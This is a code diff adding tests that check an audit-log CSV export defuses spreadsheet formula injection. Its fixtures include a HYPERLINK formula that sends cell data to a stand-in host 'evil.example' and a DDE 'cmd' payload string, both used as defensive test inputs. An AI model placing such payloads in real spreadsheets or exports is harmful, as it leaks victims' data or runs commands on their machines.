@@ -11,6 +11,8 @@ import gc
 import io
 import json
 import tracemalloc
+import uuid
+from decimal import Decimal
 
 import pytest
 from asgiref.sync import async_to_sync
@@ -21,7 +23,7 @@ from django.urls import reverse
 from audit import export
 from audit.models import AgentRun
 from audit.schemas import TimelineItemOut
-from conversations.models import Conversation
+from conversations.models import Conversation, Message
 from tests.conftest import bearer
 from yuxi_project.responses import encode_json
 
@@ -130,6 +132,102 @@ def test_text_postgresql_cannot_hold_exports_as_the_timeline_shows_it_R_ADM_2_R_
     out = tmp_path / "run.jsonl"
     call_command("export_audit", "--run", str(run.pk), "--output", str(out))
     assert [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()] == timeline
+
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def formula_run(thread) -> AgentRun:
+    """A completed run with, for each of :data:`FORMULA_STARTS`, a model
+    answer, a tool execution (name, input and output) and a raw output
+    starting with that character; the model calls have a cost."""
+    start = dt.datetime.now(dt.UTC) - dt.timedelta(minutes=5)
+    run = AgentRun.objects.create(
+        request_id=f"formula-{uuid.uuid4().hex}",
+        thread=thread,
+        user=thread.user,
+        agent_id=thread.agent_id,
+        model=thread.model,
+        status=AgentRun.Status.COMPLETED,
+        started_at=start,
+        finished_at=start + dt.timedelta(seconds=30),
+    )
+    common = {"thread": thread, "run": run, "execution_status": Message.ExecutionStatus.COMPLETED}
+    for i, char in enumerate(FORMULA_STARTS):
+        at = start + dt.timedelta(seconds=2 * i)
+        model = Message.objects.create(
+            **common,
+            role=Message.Role.ASSISTANT,
+            message_type=Message.Type.MODEL_AUDIT,
+            operation_id=f"lc_run--formula-{i}",
+            sequence=2 * i + 1,
+            started_at=at,
+            finished_at=at + dt.timedelta(milliseconds=400),
+            duration_ms=400,
+            usage={"input_tokens": 10, "output_tokens": 5, "total_tokens": 15},
+            cost_usd=Decimal("0.000108"),
+            content=f'{char}HYPERLINK("http://evil.example/?leak="&A1,"click")',
+            metadata={"model_name": "replay-model"},
+        )
+        Message.objects.create(
+            **common,
+            role=Message.Role.TOOL,
+            message_type=Message.Type.TOOL_AUDIT,
+            declared_by=model,
+            operation_id=f"call_formula_{i}",
+            sequence=2 * i + 2,
+            started_at=at + dt.timedelta(seconds=1),
+            finished_at=at + dt.timedelta(milliseconds=1200),
+            duration_ms=200,
+            tool_name=f"{char}lookup",
+            tool_input=f"{char}1 apples",
+            content=f"{char}cmd|' /C calc'!A0",
+            metadata={"raw_output": {"type": "tool", "content": f"{char}cmd"}},
+        )
+    return run
+
+
+def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula_R_ADM_3(client, staff_user, thread):
+    """An answer, a tool name and a tool output starting with ``=``, ``+``,
+    ``-``, ``@``, a tab or a carriage return are CSV cells starting with
+    ``'`` and then the text; numbers (ids, sequences, durations, costs) are
+    as they were; a tool input (a JSON cell) is its JSON text, which starts
+    with ``"`` and so is never a formula; the JSON lines are the API's."""
+    run = formula_run(thread)
+    headers = bearer(staff_user)
+    timeline = client.get(f"/api/audit/runs/{run.pk}/timeline", headers=headers).json()["items"]
+    rows = csv_of(client.get(f"/api/audit/runs/{run.pk}/export", {"format": "csv"}, headers=headers))
+    assert len(rows) == len(timeline) == 2 * len(FORMULA_STARTS)
+    for row, item in zip(rows, timeline, strict=True):
+        assert row["content"] == "'" + item["content"] and row["content"][1] in FORMULA_STARTS
+        for name in ("id", "sequence", "duration_ms", "attempt"):
+            assert row[name] == str(item[name])
+        if item["kind"] == "model":
+            assert row["cost_usd"] == item["cost_usd"] == "0.000108"
+            assert json.loads(row["usage"]) == item["usage"]
+        else:
+            assert row["tool_name"] == "'" + item["tool_name"]
+            assert row["declared_by_id"] == str(item["declared_by_id"])
+            assert row["tool_input"] == encode_json(item["tool_input"]).decode() and row["tool_input"][0] == '"'
+            assert json.loads(row["tool_input"])[0] in FORMULA_STARTS
+            assert json.loads(row["raw_output"]) == item["raw_output"]
+    # Status, ids and times are not touched.
+    assert {row["status"] for row in rows} == {"completed"} and rows[0]["run_id"] == str(run.pk)
+    assert rows[0]["started_at"] == timeline[0]["started_at"]
+
+    exported = lines_of(client.get(f"/api/audit/runs/{run.pk}/export", {"format": "jsonl"}, headers=headers))
+    assert exported == timeline
+    assert [item["content"][0] for item in exported] == [c for c in FORMULA_STARTS for _ in range(2)]
+
+
+def test_csv_keeps_negative_numbers_and_prefixes_text_that_looks_like_one_R_ADM_3():
+    """A negative number the export writes (an int, or a cost's decimal
+    string) is a number; text such as ``-1 apples`` is text."""
+    item = {"duration_ms": -5, "cost_usd": "-0.25", "content": "-1 apples", "tool_name": "plain"}
+    header, line = "".join(export.render([item], "csv")).splitlines()
+    row = dict(zip(header.split(","), next(csv.reader([line])), strict=True))
+    assert (row["duration_ms"], row["cost_usd"]) == ("-5", "-0.25")
+    assert (row["content"], row["tool_name"]) == ("'-1 apples", "plain")
 
 
 def test_export_is_for_staff_and_refuses_bad_input_R_ADM_2_R_READ_5(client, user, staff_user, run_and_thread):
